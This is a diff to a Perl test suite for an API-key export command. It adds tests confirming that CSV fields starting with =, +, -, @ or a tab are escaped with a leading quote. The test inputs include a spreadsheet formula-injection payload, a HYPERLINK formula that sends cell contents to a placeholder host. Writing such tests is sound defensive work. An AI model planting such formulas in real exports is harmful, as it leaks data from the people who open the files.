@@ -418,6 +418,15 @@ ok(!grep({ $_ eq 'key_hash' || $_ eq 'token' } @header), 'no key_hash column, no
 is(scalar(@csv) - 1, sql('SELECT count(*) FROM apikey.keys'), 'a line per key');
 unlike($out, qr/key_hash|\\x[0-9a-f]{64}/, 'no digest');
 ok(!grep({ occurrences($out, $_) } @tokens), 'and none of the ' . scalar(@tokens) . ' tokens');
+# a spreadsheet runs a cell that starts with = + - @ as a formula
+sql(q{SELECT apikey.issue('=HYPERLINK("http://x.invalid/?"&A1)', name => '@SUM(A1:A9)', org => '+1', tier => 'free')});
+sql(q{SELECT apikey.issue('-2+3', name => E'\tcmd')});
+($rc, $out) = cli('export', '--owner', '=HYPERLINK("http://x.invalid/?"&A1)');
+like($out, qr/^[^\n]*,"'=HYPERLINK\(""http:[^\n]*,"?'\+1"?,"?'\@SUM\(A1:A9\)"?,/m,
+	'export: owner, org and name that start a formula get a leading \'');
+($rc, $out) = cli('export', '--owner', '-2+3');
+like($out, qr/,"?'-2\+3"?,,"?'\tcmd"?,/, 'and a leading - or tab too');
+unlike($out, qr/(^|,)"?[=+\-\@\t]/m, 'no cell starts a formula');
 ($rc, $out) = cli('export', '--format', 'json', '--owner', 'jsonl');
 my @exported = sort { $a->{name} cmp $b->{name} } map { $json->decode($_) } split /\n/, $out;
 ok($rc == 0 && @exported == 2 && $exported[0]{name} eq 'first' && $exported[0]{metadata}{n} == 1,
